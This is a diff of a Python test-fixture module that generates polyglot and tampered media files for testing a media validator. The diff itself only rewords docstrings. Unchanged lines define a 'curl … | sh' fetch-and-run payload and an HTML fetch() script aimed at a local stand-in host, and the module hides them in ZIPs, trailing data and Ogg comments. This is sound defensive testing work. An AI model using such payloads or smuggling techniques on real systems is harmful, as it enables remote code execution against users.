@@ -1,5 +1,5 @@
-"""Files that a changed sender could send in place of copies: polyglots, and copies with more in
-them than a copy has.
+"""Files that a malicious sender could send in place of copies: polyglots, and copies with extra
+content.
 """
 
 import io
@@ -21,7 +21,7 @@ from entrenous.media.picture_writer import write_picture
 from entrenous.media.sound_writer import write_sound
 from tests.village.world import photo
 
-Files = list[tuple[str, str, bytes]]  # what it is, media type, bytes
+Files = list[tuple[str, str, bytes]]  # description, media type, bytes
 
 SHELL = b"\n#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"
 HTML = b"<html><script>fetch('http://127.0.0.1:9/')</script></html>"
@@ -36,7 +36,7 @@ SOUNDS = {
 
 
 def archive() -> bytes:
-    """A ZIP with a script in it; programs find it by its end."""
+    """Return a ZIP with a script in it; programs find it by its end."""
     file = io.BytesIO()
     with zipfile.ZipFile(file, "w") as packed:
         packed.writestr("run.sh", SHELL)
@@ -45,7 +45,7 @@ def archive() -> bytes:
 
 @cache
 def honest() -> dict[str, bytes]:
-    """A copy of each media type as our writers make it."""
+    """Return a copy of each media type as our writers make it."""
     picture = Image.open(io.BytesIO(photo(width_px=100)))
     made = {
         f"image/{kind.lower()}": write_picture(read_picture(_saved(picture, kind)))
@@ -60,7 +60,7 @@ def honest() -> dict[str, bytes]:
 
 
 def hostile(wanted: int) -> Files:
-    """At least so many files, no two alike, the named ones first."""
+    """Return at least this many files, no two alike, the named ones first."""
     files = [*_starts(), *_swapped(), *_ended(), *_of_jpeg(), *_of_png(), *_of_webp(), *_of_mp4()]
     files += [*_of_ogg(), *_of_sounds()]
     rng = Random(24)
@@ -87,7 +87,7 @@ def _clip() -> bytes:
 
 
 def _starts() -> Iterator[tuple[str, str, bytes]]:
-    """A beginning that announces a picture or sound, and then something else."""
+    """Files that begin like a picture or sound, and go on with something else."""
     for media_type, data in honest().items():
         for length in (4, 12, 24):
             for what, body in (("shell", SHELL), ("html", HTML), ("zip", archive())):
@@ -96,7 +96,7 @@ def _starts() -> Iterator[tuple[str, str, bytes]]:
 
 
 def _swapped() -> Iterator[tuple[str, str, bytes]]:
-    """An honest copy under another media type, and types that no copy has."""
+    """Valid copies under another media type, and types that no copy has."""
     for media_type, data in honest().items():
         for other in honest():
             if other != media_type:
@@ -110,7 +110,7 @@ def _swapped() -> Iterator[tuple[str, str, bytes]]:
 
 
 def _ended() -> Iterator[tuple[str, str, bytes]]:
-    """Something behind the end, before the beginning, or the end missing."""
+    """Files with something after the end or before the beginning, or with the end missing."""
     for media_type, data in honest().items():
         for what, tail in (
             *(("zip", archive()), ("html", HTML), ("shell", SHELL), ("a zero", b"\0")),
@@ -270,7 +270,7 @@ def _of_mp4() -> Iterator[tuple[str, str, bytes]]:
 
 
 def _added(data: bytes, inside: bytes, more: bytes) -> bytes:
-    """The file with another box at the end of the first ``inside``; sizes around it agree."""
+    """Add a box at the end of the first ``inside``, and correct the sizes around it."""
     changed = bytearray(data)
     path = {b"moov": 1, b"trak": 2, b"mdia": 3, b"minf": 4, b"stbl": 5, b"stsd": 6}
     end = 0
@@ -290,7 +290,7 @@ def _page(flags: int, serial: bytes, number: int, body: bytes) -> bytes:
 
 
 def _ogg_checksum(page: bytes) -> int:
-    """RFC 3533, 6: CRC-32 from the first bit on, neither begun nor ended with ones."""
+    """Return the CRC-32 of RFC 3533, section 6: unreflected, with initial value and final XOR 0."""
     crc = 0
     for byte in page:
         crc ^= byte << 24
@@ -312,7 +312,7 @@ def _of_ogg() -> Iterator[tuple[str, str, bytes]]:
     tags = b"OpusTags\x06\0\0\0ffmpeg\x01\0\0\0" + struct.pack("<I", len(SHELL)) + SHELL
     yield "ogg, a comment", "audio/ogg", data[:second] + _page(0, serial, 1, tags) + data[third:]
     yield "ogg, junk between", "audio/ogg", data[:third] + SHELL + data[third:]
-    padded = b"\xff\x41\xfe" + HTML  # one frame of CELT, and padding that a decoder skips
+    padded = b"\xff\x41\xfe" + HTML  # one frame of CELT, and padding that decoders skip
     yield "ogg, padding", "audio/ogg", data[:third] + _page(4, serial, 2, padded)
     for at in range(30, len(data), max(1, len(data) // 40)):
         yield f"ogg, byte {at}", "audio/ogg", data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]
@@ -337,11 +337,11 @@ def _of_sounds() -> Iterator[tuple[str, str, bytes]]:
 
 
 def _mutated(rng: Random) -> tuple[str, str, bytes]:
-    """A copy with a run of bytes put in, taken out, doubled or cut off.
+    """A copy with a run of bytes inserted, removed, doubled or cut off.
 
-    Nothing is taken out of a JPEG: its scan has no checksum, so what is left of it may be another
-    whole picture, which anybody could have sent. Nor is an AMR file changed so: any number of its
-    frames is a file.
+    Nothing is removed from a JPEG: its scan has no checksum, so the rest may be another whole
+    picture, which anybody could have sent. AMR files are not changed either: any number of frames
+    is a valid file.
     """
     media_type, data = rng.choice([one for one in honest().items() if one[0] != "audio/amr"])
     at, length = rng.randrange(1, len(data)), rng.randrange(33, 200)
